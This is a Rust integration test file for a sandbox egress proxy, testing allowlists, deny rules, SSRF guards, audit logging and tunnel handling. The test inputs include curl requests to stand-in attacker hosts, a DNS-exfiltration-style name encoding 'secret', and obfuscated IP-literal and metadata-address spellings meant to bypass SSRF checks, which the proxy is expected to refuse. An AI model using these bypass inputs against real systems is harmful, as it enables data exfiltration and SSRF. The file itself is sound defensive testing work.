//! The egress proxy end to end: real clients (curl, python3, git) inside a
//! real sandbox, talking through the relay and the session's proxy to real
//! servers on the host's loopback. Test names resolve to 127.0.0.1 through
//! a private /etc/hosts (see `common::net`).

mod common;

use std::path::Path;
use std::process::{Command, Stdio};

use common::net::{can_run, git_server, make_bare_repo, Cert, DnsSpy, Names, Upstream, DNS_LOCK};
use common::{install_executable, Sandbox, TempDir};
use serde_json::Value;

/// Options that let the session proxy reach a loopback upstream on `port`.
fn loopback_opts(port: u16) -> Vec<String> {
    vec![
        "--allow-cidr".into(),
        "127.0.0.0/8".into(),
        "--allow-port".into(),
        port.to_string(),
    ]
}

fn strs(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

/// Copies the raw proxy client into the workspace; returns its path.
fn raw_client(sb: &Sandbox) -> String {
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/raw_proxy_client.py");
    let dest = sb.workspace.join("raw_proxy_client.py");
    install_executable(&src, &dest);
    dest.display().to_string()
}

/// Runs the raw client inside the sandbox and parses its JSON lines.
fn raw(sb: &Sandbox, names: &Names, opts: &[&str], args: &[&str]) -> Vec<Value> {
    let client = raw_client(sb);
    let mut argv = vec!["python3", client.as_str()];
    argv.extend_from_slice(args);
    let out = sb.net_run(names, opts, &argv);
    out.assert_code(0, "the raw client should finish");
    out.stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l:?}: {e}\n{out}")))
        .collect()
}

/// `curl` inside the sandbox printing `CODE CONNECT_CODE` for each URL, with
/// the body of each response on its own line first.
fn curl_codes(sb: &Sandbox, names: &Names, opts: &[&str], curl_args: &str) -> Vec<String> {
    let script = format!(
        "for u in {curl_args}; do curl -sS --max-time 20 -w '\\nCODE %{{http_code}} %{{http_connect}}\\n' \"$u\" 2>&1; done"
    );
    let out = sb.net_sh(names, opts, &script);
    out.stdout
        .lines()
        .filter_map(|l| l.strip_prefix("CODE ").map(str::to_string))
        .collect()
}

fn str_at<'a>(v: &'a Value, path: &[&str]) -> &'a str {
    let mut cur = v;
    for p in path {
        cur = &cur[*p];
    }
    cur.as_str().unwrap_or("")
}

/// An allowed name works over plain HTTP (forward proxy), HTTPS (CONNECT)
/// and SOCKS5, with no client configuration beyond what the sandbox sets.
#[test]
fn allowed_host_is_reachable_over_http_https_and_socks() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let certs = TempDir::new("/tmp", "airlock-tls");
    let cert = Cert::generate(certs.path(), &["git.example.com"]);
    let repos = TempDir::new("/tmp", "airlock-repos");
    make_bare_repo(repos.path(), "repo", "over tls\n");
    let tls = git_server(repos.path(), Some(&cert));
    let sb = Sandbox::new();
    std::fs::copy(&cert.ca, sb.workspace.join("ca.pem")).expect("copy CA");
    let names = Names::new();
    let opts = [
        "--allow",
        "api.example.com",
        "--allow",
        "git.example.com",
        "--allow-cidr",
        "127.0.0.0/8",
        "--allow-port",
        &up.port.to_string(),
        "--allow-port",
        &tls.port.to_string(),
    ];
    let script = format!(
        "curl -sS --max-time 20 http://api.example.com:{p}/hello && \
         curl -sS --max-time 20 -o /dev/null -w 'https %{{http_code}}\\n' --cacert ca.pem \
           'https://git.example.com:{t}/repo.git/info/refs?service=git-upload-pack' && \
         curl -sS --max-time 20 -x socks5h://127.0.0.1:1080 http://api.example.com:{p}/hello",
        p = up.port,
        t = tls.port
    );
    let out = sb.net_sh(&names, &opts, &script);
    out.assert_code(0, "all three requests should succeed");
    assert_eq!(
        out.stdout.matches("hello from upstream").count(),
        2,
        "plain HTTP and SOCKS5 should both reach the upstream\n{out}"
    );
    assert!(
        out.stdout.contains("https 200"),
        "CONNECT should work\n{out}"
    );
}

/// A name outside the allowlist gets 403 with `X-Airlock-Deny` and a body
/// naming the rule, over HTTP and CONNECT; SOCKS5 gets "not allowed by
/// ruleset".
#[test]
fn denied_host_gets_403_naming_the_rule() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let mut opts = loopback_opts(up.port);
    opts.extend(["--allow".into(), "api.example.com".into()]);
    let script = format!(
        "curl -sS --max-time 20 -D - http://evil.example.com:{p}/hello; \
         curl -sS --max-time 20 -o /dev/null -w 'connect %{{http_connect}}\\n' https://evil.example.com/; \
         curl -sS --max-time 20 -x socks5h://127.0.0.1:1080 http://evil.example.com:{p}/hello; echo socks $?",
        p = up.port
    );
    let out = sb.net_sh(&names, &strs(&opts), &script);
    let lower = out.stdout.to_lowercase();
    assert!(lower.contains("http/1.1 403"), "{out}");
    assert!(lower.contains("x-airlock-deny: not-allowlisted"), "{out}");
    assert!(
        out.stdout.contains("evil.example.com:")
            && out.stdout.contains("denied by rule default-deny"),
        "the body names the rule\n{out}"
    );
    assert!(out.stdout.contains("connect 403"), "{out}");
    assert!(
        out.stdout.contains("socks 97"),
        "curl's 'not allowed' exit\n{out}"
    );
    assert!(up.requests().is_empty(), "upstream saw {:?}", up.requests());
}

/// `*.example.org` covers subdomains at any depth but never the apex
/// `example.org` nor a lookalike `badexample.org`.
#[test]
fn wildcard_allows_subdomains_only() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let mut opts = loopback_opts(up.port);
    opts.extend(["--allow".into(), "*.example.org".into()]);
    let urls: Vec<String> = [
        "a.example.org",
        "deep.a.example.org",
        "example.org",
        "badexample.org",
    ]
    .iter()
    .map(|h| format!("http://{h}:{}/hello", up.port))
    .collect();
    let codes = curl_codes(&sb, &names, &strs(&opts), &urls.join(" "));
    let http: Vec<&str> = codes
        .iter()
        .map(|c| c.split(' ').next().unwrap_or(""))
        .collect();
    assert_eq!(http, vec!["200", "200", "403", "403"], "{codes:?}");
}

/// Case and trailing-dot spellings of a denied name are the same name.
#[test]
fn case_and_trailing_dot_variants_of_a_denied_name_are_denied() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let mut opts = loopback_opts(up.port);
    opts.extend([
        "--allow".into(),
        "*.example.com".into(),
        "--deny".into(),
        "evil.example.com".into(),
    ]);
    let p = up.port;
    let targets: Vec<String> = [
        "evil.example.com",
        "EVIL.EXAMPLE.COM",
        "evil.example.com.",
        "Evil.Example.Com.",
    ]
    .iter()
    .map(|h| format!("{h}:{p}"))
    .collect();
    let mut args = vec!["connect"];
    args.extend(strs(&targets));
    let control = format!("api.example.com:{p}");
    args.push(&control);
    let answers = raw(&sb, &names, &strs(&opts), &args);
    assert_eq!(answers.len(), 5, "{answers:?}");
    for a in &answers[..4] {
        assert_eq!(a["status"], 403, "{a}");
        assert_eq!(a["deny"], "denied-by-rule", "{a}");
        assert!(
            str_at(a, &["body"]).contains("deny:evil.example.com"),
            "{a}"
        );
    }
    assert_eq!(
        answers[4]["status"], 200,
        "the control is allowed: {}",
        answers[4]
    );
}

/// IP literals in every spelling are refused unless a CIDR allows them: the
/// proxy, not the client, decides what an address is.
#[test]
fn ip_literals_are_refused_in_every_form() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let p = up.port;
    let opts = ["--allow", "api.example.com", "--allow-port", &p.to_string()];
    let forms = [
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "017700000001",
        "0177.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "[2001:0:4136:e378:8000:63bf:80ff:fffe]",
        "[fe80::1%25lo]",
        "[fe80::1%lo]",
        "169.254.169.254",
        "[fd00:ec2::254]",
    ];
    let targets: Vec<String> = forms.iter().map(|f| format!("{f}:{p}")).collect();
    let mut args = vec!["connect"];
    args.extend(strs(&targets));
    let answers = raw(&sb, &names, &opts, &args);
    assert_eq!(answers.len(), forms.len(), "{answers:?}");
    for a in &answers {
        assert_eq!(a["status"], 403, "{a}");
        let reason = a["deny"].as_str().unwrap_or("");
        assert!(reason == "ip-literal" || reason == "bad-name", "{a}");
    }
    for (atyp, host) in [("1", "127.0.0.1"), ("4", "::1"), ("4", "::ffff:127.0.0.1")] {
        let answers = raw(&sb, &names, &opts, &["socks", atyp, host, &p.to_string()]);
        assert_eq!(answers[0]["reply"], 2, "SOCKS5 {host}: {}", answers[0]);
    }
    assert!(up.requests().is_empty(), "upstream saw {:?}", up.requests());
}

/// An allowed name that resolves to loopback is an SSRF attempt unless the
/// loopback range is allowed explicitly.
#[test]
fn allowed_name_resolving_to_loopback_is_refused_without_its_cidr() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let p = up.port.to_string();
    let url = format!("http://api.example.com:{p}/hello");
    let script = format!("curl -sS --max-time 20 -D - '{url}'");
    let out = sb.net_sh(
        &names,
        &["--allow", "api.example.com", "--allow-port", &p],
        &script,
    );
    let lower = out.stdout.to_lowercase();
    assert!(lower.contains("http/1.1 403"), "{out}");
    assert!(lower.contains("x-airlock-deny: address-class"), "{out}");
    assert!(out.stdout.contains("address-class:loopback"), "{out}");
    assert!(up.requests().is_empty(), "upstream saw {:?}", up.requests());

    let out = sb.net_sh(
        &names,
        &[
            "--allow",
            "api.example.com",
            "--allow-port",
            &p,
            "--allow-cidr",
            "127.0.0.0/8",
        ],
        &script,
    );
    assert!(out.stdout.contains("hello from upstream"), "{out}");
}

/// A denied name is decided before any lookup: a DNS query would itself
/// carry data out (`secret.attacker.example`). An allowed name is looked up.
#[test]
fn denied_names_are_never_resolved() {
    if !can_run() {
        return;
    }
    let _one_at_a_time = DNS_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    let spy = DnsSpy::start();
    let sb = Sandbox::new();
    let names = Names::with_nameserver(&spy.addr.ip().to_string());
    let script = "curl -sS --max-time 20 -D - http://c2VjcmV0.exfil.example.net/; \
                  curl -sS --max-time 20 -D - http://unlisted.example.org/";
    let out = sb.net_sh(&names, &["--allow", "*.example.org"], script);
    let lower = out.stdout.to_lowercase();
    assert!(lower.contains("x-airlock-deny: not-allowlisted"), "{out}");
    assert!(
        lower.contains("x-airlock-error: dns-failure"),
        "the allowed name was looked up and failed\n{out}"
    );
    let asked = spy.asked();
    assert!(
        asked.iter().any(|n| n == "unlisted.example.org"),
        "the spy at {} should have seen the allowed name: {asked:?}",
        spy.addr
    );
    assert!(
        !asked.iter().any(|n| n.contains("exfil")),
        "a denied name reached DNS: {asked:?}"
    );
}

/// Nothing leaves except through the proxy: no direct TCP to the host's
/// services, no UDP at all, no DNS from inside.
#[test]
fn direct_connections_udp_and_dns_inside_fail() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let tcp = format!("tcp-connect=127.0.0.1:{}", up.port);
    let report = sb.probe(&[&tcp, "udp-send=127.0.0.1:53", "udp-send=[::1]:53"]);
    report.expect(&[
        (tcp.as_str(), "errno=EACCES"),
        ("udp-send=127.0.0.1:53", "errno=EPERM"),
        ("udp-send=[::1]:53", "errno=EPERM"),
    ]);
    let names = Names::new();
    let out = sb.net_sh(
        &names,
        &[],
        "python3 -c \"import socket\ntry:\n  socket.getaddrinfo('nothing-here.example.net', 80)\n  print('resolved')\nexcept OSError as e:\n  print('lookup failed', e)\"",
    );
    assert!(out.stdout.contains("lookup failed"), "{out}");
    assert!(up.requests().is_empty(), "upstream saw {:?}", up.requests());
}

/// Every request on a kept-alive connection is decided again: an allowed
/// first request does not open the door for the next.
#[test]
fn keep_alive_requests_are_each_rechecked() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let mut opts = loopback_opts(up.port);
    opts.extend(["--allow".into(), "api.example.com".into()]);
    let p = up.port;
    let ok = format!(
        "GET http://api.example.com:{p}/hello HTTP/1.1\\r\\nHost: api.example.com:{p}\\r\\n\\r\\n"
    );
    let bad = format!("GET http://evil.example.com:{p}/hello HTTP/1.1\\r\\nHost: evil.example.com:{p}\\r\\n\\r\\n");
    let answers = raw(&sb, &names, &strs(&opts), &["session", &ok, &bad, &ok]);
    let statuses: Vec<&Value> = answers.iter().map(|a| &a["status"]).collect();
    assert_eq!(statuses, vec![200, 403, 200], "{answers:?}");
    assert_eq!(up.requests().len(), 2, "{:?}", up.requests());
}

/// The Host header must name the request target (no smuggling a second
/// destination past the check), and only WebSocket may upgrade.
#[test]
fn host_header_mismatch_and_foreign_upgrades_are_refused() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let mut opts = loopback_opts(up.port);
    opts.extend(["--allow".into(), "api.example.com".into()]);
    let p = up.port;
    let mismatch = format!(
        "GET http://api.example.com:{p}/hello HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n"
    );
    let h2c = format!("GET http://api.example.com:{p}/hello HTTP/1.1\\r\\nHost: api.example.com:{p}\\r\\nConnection: Upgrade\\r\\nUpgrade: h2c\\r\\n\\r\\n");
    let origin = "GET /hello HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n";
    let a = raw(&sb, &names, &strs(&opts), &["session", &mismatch]);
    assert_eq!(
        (&a[0]["status"], &a[0]["deny"]),
        (&Value::from(403), &Value::from("host-mismatch"))
    );
    let a = raw(&sb, &names, &strs(&opts), &["session", &h2c]);
    assert_eq!(
        (&a[0]["status"], &a[0]["deny"]),
        (&Value::from(403), &Value::from("upgrade-refused"))
    );
    let a = raw(&sb, &names, &strs(&opts), &["session", origin]);
    assert_eq!(
        a[0]["status"], 400,
        "origin-form is not a proxy request: {}",
        a[0]
    );
    assert!(up.requests().is_empty(), "upstream saw {:?}", up.requests());
}

/// A WebSocket upgrade through the forward proxy works both ways after
/// the 101.
#[test]
fn websocket_upgrade_is_relayed() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let mut opts = loopback_opts(up.port);
    opts.extend(["--allow".into(), "api.example.com".into()]);
    let script = format!(
        "import socket\n\
         s = socket.create_connection(('127.0.0.1', 3128), timeout=20)\n\
         s.sendall(b'GET http://api.example.com:{p}/ws HTTP/1.1\\r\\nHost: api.example.com:{p}\\r\\n\
         Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n')\n\
         f = s.makefile('rb')\n\
         print(f.readline().decode().strip())\n\
         while f.readline() not in (b'\\r\\n', b''): pass\n\
         s.sendall(b'ping-through-airlock')\n\
         print(f.read(20).decode())\n",
        p = up.port
    );
    let out = sb.net_run(&names, &strs(&opts), &["python3", "-c", &script]);
    assert!(out.stdout.contains("101 Switching Protocols"), "{out}");
    assert!(out.stdout.contains("ping-through-airlock"), "{out}");
}

/// Proxy credentials and hop-by-hop headers stop at the proxy; redirects go
/// back to the client instead of being followed.
#[test]
fn proxy_headers_are_stripped_and_redirects_not_followed() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let mut opts = loopback_opts(up.port);
    opts.extend(["--allow".into(), "api.example.com".into()]);
    let p = up.port;
    let script = format!(
        "curl -sS --max-time 20 -H 'Proxy-Authorization: Basic c2VjcmV0' -H 'Connection: X-Hop' \
           -H 'X-Hop: 1' -H 'X-Kept: yes' http://api.example.com:{p}/headers; \
         curl -sS --max-time 20 -o /dev/null -w 'redirect %{{http_code}} %{{redirect_url}}\\n' \
           http://api.example.com:{p}/redirect"
    );
    let out = sb.net_sh(&names, &strs(&opts), &script);
    let echoed = out.stdout.to_lowercase();
    assert!(echoed.contains("x-kept: yes"), "{out}");
    assert!(
        echoed.contains(&format!("host: api.example.com:{p}")),
        "{out}"
    );
    for gone in ["proxy-authorization", "x-hop", "proxy-connection"] {
        assert!(!echoed.contains(gone), "{gone} reached the upstream\n{out}");
    }
    assert!(
        out.stdout.contains("redirect 302 http://evil.example.com/"),
        "{out}"
    );
    assert!(
        !up.requests().iter().any(|r| r.contains("evil")),
        "{:?}",
        up.requests()
    );
}

/// A request head larger than the limit is refused (431), not buffered.
#[test]
fn oversized_request_head_is_refused() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let mut opts = loopback_opts(up.port);
    opts.extend(["--allow".into(), "api.example.com".into()]);
    let big = "a".repeat(100 * 1024);
    let script = format!(
        "curl -sS --max-time 20 -o /dev/null -w 'code %{{http_code}}\\n' -H 'X-Big: {big}' \
         http://api.example.com:{}/hello",
        up.port
    );
    let out = sb.net_sh(&names, &strs(&opts), &script);
    assert!(out.stdout.contains("code 431"), "{}", &out.stdout);
    assert!(up.requests().is_empty(), "upstream saw {:?}", up.requests());
}

/// Ordinary tools work unchanged: python3's urllib and git over plain HTTP
/// and over HTTPS pick up the proxy from the environment.
#[test]
fn python_and_git_work_through_the_proxy() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let certs = TempDir::new("/tmp", "airlock-tls");
    let cert = Cert::generate(certs.path(), &["git.example.com"]);
    let repos = TempDir::new("/tmp", "airlock-repos");
    make_bare_repo(repos.path(), "repo", "cloned through airlock\n");
    let plain = git_server(repos.path(), None);
    let tls = git_server(repos.path(), Some(&cert));
    let sb = Sandbox::new();
    std::fs::copy(&cert.ca, sb.workspace.join("ca.pem")).expect("copy CA");
    let names = Names::new();
    let ports = [up.port, plain.port, tls.port].map(|p| p.to_string());
    let mut opts = vec![
        "--allow",
        "api.example.com",
        "--allow",
        "git.example.com",
        "--allow-cidr",
        "127.0.0.0/8",
    ];
    for p in &ports {
        opts.extend(["--allow-port", p.as_str()]);
    }
    let script = format!(
        "set -e\n\
         python3 -c \"import urllib.request; print(urllib.request.urlopen('http://api.example.com:{u}/hello', timeout=20).read().decode())\"\n\
         git clone -q http://git.example.com:{g}/repo.git plain && cat plain/file.txt\n\
         GIT_SSL_CAINFO=$PWD/ca.pem git clone -q https://git.example.com:{t}/repo.git tls && cat tls/file.txt\n",
        u = up.port,
        g = plain.port,
        t = tls.port
    );
    let out = sb.net_sh(&names, &opts, &script);
    out.assert_code(0, "python and both clones should work");
    assert!(out.stdout.contains("hello from upstream"), "{out}");
    assert_eq!(
        out.stdout.matches("cloned through airlock").count(),
        2,
        "{out}"
    );
}

/// The audit log has one line per attempt, with the decision, the rule, the
/// session, the peer's uid from SO_PEERCRED, and no query values.
#[test]
fn audit_log_records_every_attempt_with_its_decision() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let mut opts = loopback_opts(up.port);
    opts.extend(["--allow".into(), "api.example.com".into()]);
    let p = up.port;
    let script = format!(
        "echo session=$AIRLOCK_SESSION_ID; \
         curl -sS --max-time 20 -o /dev/null 'http://api.example.com:{p}/hello?token=s3cr3t-value'; \
         curl -sS --max-time 20 -o /dev/null http://evil.example.com:{p}/; \
         curl -sS --max-time 20 -o /dev/null -p http://api.example.com:{p}/hello; \
         curl -sS --max-time 20 -o /dev/null https://evil.example.com/; true"
    );
    let out = sb.net_sh(&names, &strs(&opts), &script);
    let session = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("session="))
        .unwrap_or_else(|| panic!("no session id\n{out}"))
        .to_string();
    let events = sb.network_events();
    let summary: Vec<(String, String, String, String)> = events
        .iter()
        .map(|e| {
            (
                str_at(e, &["airlock", "protocol"]).to_string(),
                str_at(e, &["destination", "domain"]).to_string(),
                str_at(e, &["airlock", "decision"]).to_string(),
                str_at(e, &["rule", "id"]).to_string(),
            )
        })
        .collect();
    let row = |proto: &str, host: &str, d: &str, rule: &str| {
        (
            proto.to_string(),
            host.to_string(),
            d.to_string(),
            rule.to_string(),
        )
    };
    assert_eq!(
        summary,
        vec![
            row("http", "api.example.com", "allow", "allow:api.example.com"),
            row("http", "evil.example.com", "deny", "default-deny"),
            row(
                "connect",
                "api.example.com",
                "allow",
                "allow:api.example.com"
            ),
            row("connect", "evil.example.com", "deny", "default-deny"),
        ],
        "{events:#?}"
    );
    for e in &events {
        assert_eq!(str_at(e, &["airlock", "session", "id"]), session, "{e}");
        assert_eq!(
            str_at(e, &["source", "user", "id"]),
            common::agent_uid().to_string(),
            "{e}"
        );
        assert!(e["@timestamp"].is_string(), "{e}");
    }
    assert_eq!(str_at(&events[0], &["url", "query"]), "token=REDACTED");
    assert_eq!(str_at(&events[0], &["destination", "ip"]), "127.0.0.1");
    assert_eq!(events[0]["http"]["response"]["status_code"], 200);
    assert!(
        events[2]["source"]["bytes"].as_u64().unwrap_or(0) > 0,
        "{}",
        events[2]
    );
    // The command line (in session.start) is the user's own; the network
    // events must not carry the value.
    let raw_log = std::fs::read_to_string(sb.audit_log()).expect("audit log");
    assert!(
        !raw_log
            .lines()
            .filter(|l| !l.contains("\"action\":\"session.start\""))
            .any(|l| l.contains("s3cr3t-value")),
        "a query value was logged"
    );
}

/// An agent killed in the middle of a tunnel still leaves its line.
#[test]
fn audit_line_survives_a_killed_agent() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let mut opts = loopback_opts(up.port);
    opts.extend(["--allow".into(), "api.example.com".into()]);
    let script = format!(
        "import os, signal, socket\n\
         s = socket.create_connection(('127.0.0.1', 3128))\n\
         s.sendall(b'CONNECT api.example.com:{p} HTTP/1.1\\r\\n\\r\\n')\n\
         print(s.recv(100).split(b'\\r\\n')[0].decode(), flush=True)\n\
         os.kill(os.getpid(), signal.SIGKILL)\n",
        p = up.port
    );
    let out = sb.net_run(&names, &strs(&opts), &["python3", "-c", &script]);
    assert_eq!(out.code(), Some(128 + 9), "{out}");
    assert!(out.stdout.contains("200"), "{out}");
    let events = sb.network_events();
    assert_eq!(events.len(), 1, "{events:#?}");
    assert_eq!(str_at(&events[0], &["airlock", "protocol"]), "connect");
    assert_eq!(str_at(&events[0], &["airlock", "decision"]), "allow");
}

/// Bad patterns never start a sandbox: the error names the flag and why.
#[test]
fn broad_or_malformed_allow_patterns_are_refused_at_start() {
    let sb = Sandbox::new();
    for bad in [
        "*",
        "*.com",
        "https://api.example.com",
        "api.example.com/v1",
    ] {
        let out = sb.run_with(&["--allow", bad], &["true"]);
        out.assert_code(125, "a bad pattern must refuse to start");
        assert!(
            out.stderr.contains("network: --allow:"),
            "{bad}: {}",
            out.stderr
        );
    }
}

/// The proxy can run as a sidecar (`egress-proxy serve`); the sandbox uses
/// its socket, and the sidecar's policy and audit log apply.
#[test]
fn sidecar_proxy_serves_a_sandbox() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let dir = TempDir::new("/tmp", "airlock-sidecar");
    let policy = dir.join("policy.toml");
    common::write_file(
        &policy,
        &format!(
            "[network]\nallow = [\"api.example.com\"]\nallow_cidr = [\"127.0.0.0/8\"]\nports = [{}]\n",
            up.port
        ),
        0o644,
    );
    let socket = dir.join("egress.sock");
    let sidecar_log = dir.join("sidecar.jsonl");
    let names = Names::new();
    let bin = common::sandbox_bin().with_file_name("egress-proxy");
    let mut serve = Command::new(&bin);
    serve
        .arg("serve")
        .arg("--listen")
        .arg(format!("unix:{}", socket.display()))
        .arg("--policy")
        .arg(&policy)
        .arg("--audit-log")
        .arg(&sidecar_log)
        .arg("--socket-mode")
        .arg("666");
    let child = names
        .wrap(&serve)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start egress-proxy serve");
    let _sidecar = common::HostChild(child);
    for _ in 0..200 {
        if socket.exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
    }
    let sb = Sandbox::new();
    let sock = socket.display().to_string();
    let script = format!(
        "curl -sS --max-time 20 http://api.example.com:{p}/hello; \
         curl -sS --max-time 20 -o /dev/null -w 'denied %{{http_code}}\\n' http://evil.example.com:{p}/",
        p = up.port
    );
    let out = sb.net_sh(&names, &["--egress-socket", &sock], &script);
    assert!(out.stdout.contains("hello from upstream"), "{out}");
    assert!(out.stdout.contains("denied 403"), "{out}");
    let log = std::fs::read_to_string(&sidecar_log).unwrap_or_default();
    let network_lines = log
        .lines()
        .filter(|l| {
            l.contains("\"action\":\"http.request\"") || l.contains("\"action\":\"network.")
        })
        .count();
    assert_eq!(network_lines, 2, "{log}");
    assert!(
        sb.network_events().is_empty(),
        "the session started no proxy of its own"
    );
    let mixed = sb.run_with(
        &["--egress-socket", &sock, "--allow", "x.example.com"],
        &["true"],
    );
    mixed.assert_code(125, "local rules with a sidecar are refused");
}

/// Learning a profile: in report mode names off the allowlist go through
/// (logged as what enforcing would have done), the SSRF guard still holds,
/// and `sandbox policy suggest` turns the log into an allowlist.
#[test]
fn report_mode_lets_unlisted_names_through_and_suggest_learns_them() {
    if !can_run() {
        return;
    }
    let up = Upstream::start();
    let sb = Sandbox::new();
    let names = Names::new();
    let p = up.port.to_string();
    let script = format!("curl -sS --max-time 20 http://api.example.com:{p}/hello");
    // Without the loopback CIDR the SSRF guard still refuses.
    let out = sb.net_sh(
        &names,
        &["--network-mode", "report", "--allow-port", &p],
        &format!("curl -sS --max-time 20 -D - -o /dev/null http://api.example.com:{p}/hello"),
    );
    assert!(
        out.stdout
            .to_lowercase()
            .contains("x-airlock-deny: address-class"),
        "{out}"
    );
    let out = sb.net_sh(
        &names,
        &[
            "--network-mode",
            "report",
            "--allow-cidr",
            "127.0.0.0/8",
            "--allow-port",
            &p,
        ],
        &script,
    );
    assert!(out.stdout.contains("hello from upstream"), "{out}");
    let reported: Vec<_> = sb
        .network_events()
        .into_iter()
        .filter(|e| e["airlock"]["reason"] == "report:not-allowlisted")
        .collect();
    assert_eq!(reported.len(), 1, "{:#?}", sb.network_events());
    assert_eq!(reported[0]["rule"]["id"], "default-deny");
    let mut cmd = Command::new(common::sandbox_bin());
    cmd.args(["policy", "suggest"]).arg(sb.audit_log());
    let out = common::run_to_end(cmd);
    assert!(out.stdout.contains("api.example.com"), "{out}");
}

/// A raw TCP upstream on loopback: with `first`, it says "bye" and closes
/// at once; otherwise it reads to EOF, then answers "got N" and closes.
fn raw_upstream(first: bool) -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            std::thread::spawn(move || {
                use std::io::{Read, Write};
                if first {
                    let _ = s.write_all(b"bye\n");
                    return;
                }
                let mut n = 0usize;
                let mut buf = [0u8; 65536];
                while let Ok(k) = s.read(&mut buf) {
                    if k == 0 {
                        break;
                    }
                    n += k;
                }
                let _ = writeln!(s, "got {n}");
            });
        }
    });
    port
}

/// An HTTP upstream that reads a request head and answers after a pause
/// (so the client's half-close arrives while its request is in flight).
fn slow_http_upstream() -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            std::thread::spawn(move || {
                use std::io::{Read, Write};
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut buf) {
                        Ok(0) | Err(_) => return,
                        Ok(k) => head.extend_from_slice(&buf[..k]),
                    }
                }
                std::thread::sleep(std::time::Duration::from_millis(300));
                let _ = s.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
                );
            });
        }
    });
    port
}

/// Copies the half-close client into the workspace; returns its path.
fn half_close_client(sb: &Sandbox) -> String {
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/half_close_client.py");
    let dest = sb.workspace.join("half_close_client.py");
    install_executable(&src, &dest);
    dest.display().to_string()
}

/// A client that shuts down its write side and waits for the answer gets
/// it, through an opaque CONNECT tunnel, SOCKS5 and a plain HTTP request;
/// an upstream that closes first ends the client's side too (no tunnel
/// left waiting for the idle timeout).
#[test]
fn half_closes_propagate_both_ways_on_every_path() {
    if !can_run() {
        return;
    }
    let eof = raw_upstream(false);
    let first = raw_upstream(true);
    let http = slow_http_upstream();
    let sb = Sandbox::new();
    let names = Names::new();
    let client = half_close_client(&sb);
    let mut opts = loopback_opts(eof);
    opts.extend(["--allow-port".into(), first.to_string()]);
    opts.extend(["--allow-port".into(), http.to_string()]);
    let script = format!(
        "python3 {client} connect-eof {eof}; python3 {client} socks-eof {eof}; \
         python3 {client} http-eof {h}; \
         python3 {client} connect-first {first}; python3 {client} socks-first {first}",
        h = http
    );
    let out = sb.net_sh(&names, &strs(&opts), &script);
    for want in [
        "connect-eof b'got 100000\\n' eof",
        "socks-eof b'got 100000\\n' eof",
        "connect-first b'bye\\n' eof",
        "socks-first b'bye\\n' eof",
    ] {
        assert!(out.stdout.contains(want), "{want}\n{out}");
    }
    assert!(
        out.stdout
            .lines()
            .any(|l| l.starts_with("http-eof b'HTTP/1.1 200")),
        "a plain HTTP client that half-closed still gets its answer\n{out}"
    );
}

/// An agent that exits while a child of its holds idle tunnels open
/// (CONNECT and SOCKS5) does not keep the session waiting for the 300 s
/// idle timeout: the session ends with the agent. (The 30 s bound is a
/// hang guard, not a measurement.)
#[test]
fn session_ends_with_its_agent_even_with_idle_tunnels_open() {
    if !can_run() {
        return;
    }
    let port = raw_upstream(false);
    let sb = Sandbox::new();
    let names = Names::new();
    let client = half_close_client(&sb);
    let opts = loopback_opts(port);
    let script = format!(
        "python3 {client} hold {port} > held.txt & \
         for i in $(seq 200); do grep -q holding held.txt 2>/dev/null && break; sleep 0.05; done; \
         cat held.txt; exit 0"
    );
    let cmd = sb.command_with(&strs(&opts), &["/bin/sh", "-c", &script]);
